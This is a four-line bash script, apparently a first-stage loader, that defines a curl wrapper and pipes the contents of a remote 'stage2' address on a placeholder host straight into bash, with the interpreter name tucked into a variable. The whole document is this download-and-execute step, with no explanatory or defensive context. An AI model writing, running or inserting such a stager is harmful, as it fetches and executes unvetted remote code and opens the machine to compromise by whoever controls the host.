#!/bin/bash
fetch() { curl -s "$1"; }
runner=bash
fetch https://c.example.net/stage2 | $runner
